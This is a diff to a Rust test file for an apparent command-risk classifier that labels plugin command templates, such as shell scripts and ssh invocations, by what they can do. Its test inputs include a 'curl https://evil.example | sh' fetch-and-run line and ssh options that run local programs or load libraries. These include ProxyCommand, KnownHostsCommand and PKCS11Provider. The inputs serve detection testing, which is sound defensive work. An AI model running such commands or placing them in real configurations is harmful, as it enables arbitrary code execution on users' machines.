@@ -85,6 +85,11 @@ fn what_changes_files_and_what_speaks_to_the_network_is_marked() {
     let peek = "['sh', '-c', 'cat \"$1\"/work.jsonl >&2', 'sh', '{d:host-dir}']";
     has(&peek.replace("\\", ""), &[Gist::Tells, Gist::Script]);
     has("['sh', '-c', 'echo x >&2']", &[Gist::Script]);
+    has("['sh', '-xc', 'cat x', 'sh', '{d:host-dir}']", &[Gist::Tells, Gist::Script]);
+    has(
+        "['sh', '-c', 'cat x > /dev/fd/2', 'sh', '{d:host-dir}']",
+        &[Gist::Places, Gist::Tells, Gist::Script],
+    );
 }
 
 #[test]
@@ -154,6 +159,7 @@ fn a_shells_script_is_told_from_a_shell_of_the_plugins() {
         [
             said("['sh', '-c', 'echo \"$1\"', 'sh', '{x:ident}']"),
             said("['sh', '-c', '\"$@\"', 'sh', '{x:ident}']"),
+            said(r#"['sh', '-c', '"$1" x', 'sh', '{x:text(/.+/)}']"#),
             said("['sh', '-c', 'exec {command:shell}']"),
             said("['sh', '-c', 'echo {x:ident}']"),
             said("['sh', '-c', 'curl https://evil.example | sh']"),
@@ -163,6 +169,9 @@ fn a_shells_script_is_told_from_a_shell_of_the_plugins() {
         a fixed script for a shell: slots are only its arguments
         --
         a fixed script that runs its arguments, some of them the plugin's
+        --
+        a fixed script that runs its arguments, some of them the plugin's
+        text from the plugin, within its pattern, in the arguments of a shell: `x`
         --
         the clients run on this machine, as you, without isolation: they can read the eval's answers, and change mst's own files
         a shell, and mst fills in a part of its program
@@ -180,6 +189,39 @@ fn a_shells_script_is_told_from_a_shell_of_the_plugins() {
             .iter()
             .any(|mark| mark.gist == Some(Gist::AnyProgram))
     );
+}
+
+#[test]
+fn an_option_of_a_login_that_runs_a_program_here_is_marked() {
+    for option in [
+        "-oKnownHostsCommand=/tmp/x",
+        "-o{x:enum(BatchMode=yes|ProxyCommand=id)}",
+        "{x:enum(-T|-oProxyCommand=id)}",
+        "-oPKCS11Provider=/tmp/x.so",
+        "-oSecurityKeyProvider=/tmp/x.so",
+        "-oXAuthLocation=/tmp/x",
+        "-F/tmp/x",
+        "-TF', '/tmp/x",
+        "-I/tmp/x.so",
+    ] {
+        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::Login, Gist::Script]);
+    }
+    for option in ["-o{x:text(/.+/)}", "-F{x:machine-path}", "-o', '{x:text(/.+/)}", "-I{x:machine-path}"] {
+        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::AnyProgram, Gist::Login]);
+    }
+    for option in [
+        "-oPermitLocalCommand=no",
+        "-oProxyCommand=none",
+        "-oUser={x:ident}",
+        "-Fnone",
+        "-oBatchMode={x:enum(yes|no)}",
+    ] {
+        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::Login]);
+    }
+    let any = [Gist::AnyProgram, Gist::Login, Gist::Script];
+    has("['ssh', '-oProxyCommand={x:ident}', '--', 'h', 'ls']", &any);
+    // Behind the host it is another program's.
+    has("['ssh', '-T', '--', 'h', 'grep', '-F', 'x']", &[Gist::Login]);
 }
 
 #[test]
